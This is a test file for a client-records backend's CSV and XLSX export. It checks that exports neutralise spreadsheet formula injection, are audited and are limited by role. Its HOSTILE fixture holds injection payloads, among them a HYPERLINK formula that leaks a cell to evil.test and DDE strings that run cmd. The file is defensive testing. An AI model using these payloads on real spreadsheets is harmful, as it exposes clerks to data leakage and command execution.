"""Exporting clients: an export opened in a spreadsheet carries no live formula, in CSV or XLSX; it is audited;
and what it holds reads back through the import unchanged."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select

from backend.audit.models import AuditEvent
from backend.clients import exporting, importing
from backend.clients.columns import cells_given
from backend.clients.models import Client
from shared.enums import ClientStatus
from tests.backend.conftest import Backend

# What someone could type at the kiosk or in a spreadsheet so that a clerk's Excel runs it.
HOSTILE = {
    "given_name": '=HYPERLINK("http://evil.test/?"&A1;"Cliquez")',
    "family_name": "+cmd|' /C calc'!A0",
    "organisation_name": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "=1+1",
    "region": "'=1+1",  # already an apostrophe: one more, so the import gives back exactly this
    "postal_code": "=2",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def make_clients(backend: Backend) -> list[dict]:
    made = []
    for body in (HOSTILE, {"given_name": "Hélène", "family_name": "Côté", "date_of_birth": "12/04/1961",
                           "phone": "514 555 0123", "email": "helene@exemple.ca", "tags": ["vip", "diabète"],
                           "number": "P-1042"}):
        response = await backend.client.post("/api/clients", json=body, headers=backend.auth("clerk"))
        assert response.status == 201, await response.text()
        made.append(await response.json())
    return made


async def test_an_export_opened_as_csv_carries_no_live_formula(backend: Backend):
    hostile, helene = await make_clients(backend)

    response = await backend.client.get("/api/clients/export.csv", headers=backend.auth("clerk"))

    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="clients-')
    assert response.headers["Cache-Control"] == "no-store"
    raw = await response.read()
    assert raw.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == list(exporting.COLUMNS)
    assert len(rows) == 3
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    by_name = dict(zip(rows[0], rows[1]))
    assert by_name["given_name"] == "'" + HOSTILE["given_name"]
    assert by_name["city"] == "'=1+1" and by_name["region"] == "''=1+1"
    second = dict(zip(rows[0], rows[2]))
    assert (second["id"], second["phone"], second["date_of_birth"]) == (str(helene["id"]), "'+15145550123",
                                                                         "1961-04-12")
    assert (second["given_name"], second["tags"], second["number"]) == ("Hélène", "diabète, vip", "P-1042")

    # Read back by the import: the columns are recognised and the values are what was stored.
    sheet = importing.read_sheet(raw)
    mapping = importing.guess_mapping(sheet.columns)
    assert {column: target for column, target in mapping.items() if target} == {
        name: name for name in exporting.COLUMNS if name not in ("id", "created_at", "updated_at")}
    cells = cells_given(sheet.rows[0][1], mapping, sheet.columns)
    assert cells["given_name"] == HOSTILE["given_name"] and cells["region"] == HOSTILE["region"]
    assert cells["postal_code"] == "=2"


async def test_an_export_as_xlsx_has_no_formula_cell(backend: Backend):
    await make_clients(backend)

    response = await backend.client.get("/api/clients/export.xlsx", headers=backend.auth("admin"))

    assert response.status == 200
    assert response.headers["Content-Type"] == exporting.XLSX_TYPE
    workbook = openpyxl.load_workbook(io.BytesIO(await response.read()))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(exporting.COLUMNS)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    values = {name: cell for name, cell in zip(exporting.COLUMNS, rows[1])}
    # The text itself, whole, shown as text: Excel does not run a cell marked so.
    assert values["given_name"].value == HOSTILE["given_name"] and values["given_name"].quotePrefix
    assert values["family_name"].value == HOSTILE["family_name"] and values["family_name"].quotePrefix
    assert values["city"].value == "=1+1" and values["city"].data_type == "s"
    assert [cell.value for cell in rows[2]][exporting.COLUMNS.index("phone")] == "+15145550123"


async def test_an_export_is_audited_and_can_be_limited_to_some_clients(backend: Backend):
    hostile, helene = await make_clients(backend)
    async with backend.database.write() as session:
        gone = Client(**{column.key: getattr(await session.get(Client, helene["id"]), column.key)
                         for column in Client.__table__.columns if column.key not in ("id", "number")})
        gone.status = ClientStatus.ERASED
        session.add(gone)

    every = await backend.client.get("/api/clients/export.csv", params={"separator": ","},
                                     headers=backend.auth("reception"))
    rows = list(csv.reader(io.StringIO((await every.read()).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [str(hostile["id"]), str(helene["id"])]  # not the erased one

    some = await backend.client.get("/api/clients/export.csv", params={"ids": f"{helene['id']},99999"},
                                    headers=backend.auth("clerk"))
    rows = list(csv.reader(io.StringIO((await some.read()).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == [str(helene["id"])]

    async with backend.database.read() as session:
        events = list(await session.scalars(select(AuditEvent).where(AuditEvent.action == "clients.exported")
                                            .order_by(AuditEvent.id)))
    assert [event.details for event in events] == [{"count": 2, "format": "csv"},
                                                   {"count": 1, "format": "csv", "ids": [helene["id"]]}]
    assert [(event.actor_type, event.actor_id) for event in events] == [
        ("staff", backend.world.staff_ids["reception"]), ("staff", backend.world.staff_ids["clerk"])]

    for params in ({"ids": "1,x"}, {"separator": "|"}):
        wrong = await backend.client.get("/api/clients/export.csv", params=params, headers=backend.auth("clerk"))
        assert wrong.status == 422


async def test_an_empty_export_has_its_header(backend: Backend):
    response = await backend.client.get("/api/clients/export.xlsx", headers=backend.auth("clerk"))
    sheet = openpyxl.load_workbook(io.BytesIO(await response.read())).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [list(exporting.COLUMNS)]


def test_tabs_and_carriage_returns_are_neutralised_too():
    # The service folds such whitespace away in names, but a cell that starts with one is still neutralised.
    assert [exporting.neutralised(text) for text in ("\t=1", "\r=1", "a=1", "", "'@x")] == [
        "'\t=1", "'\r=1", "a=1", "", "''@x"]


@pytest.mark.parametrize("who, status", [("clerk", 200), ("admin", 200), ("reception", 200), ("billing", 403),
                                         ("paeds", 403), ("kiosk_a", 403), (None, 401)])
async def test_who_may_export(backend: Backend, who: str | None, status: int):
    await make_clients(backend)
    headers = backend.auth(who) if who else {}
    for path in ("/api/clients/export.csv", "/api/clients/export.xlsx"):
        response = await backend.client.get(path, headers=headers)
        assert response.status == status, path
        if status != 200:
            assert response.content_type == "application/problem+json"
    async with backend.database.read() as session:
        audited = list(await session.scalars(select(AuditEvent).where(AuditEvent.action == "clients.exported")))
    assert len(audited) == (2 if status == 200 else 0)
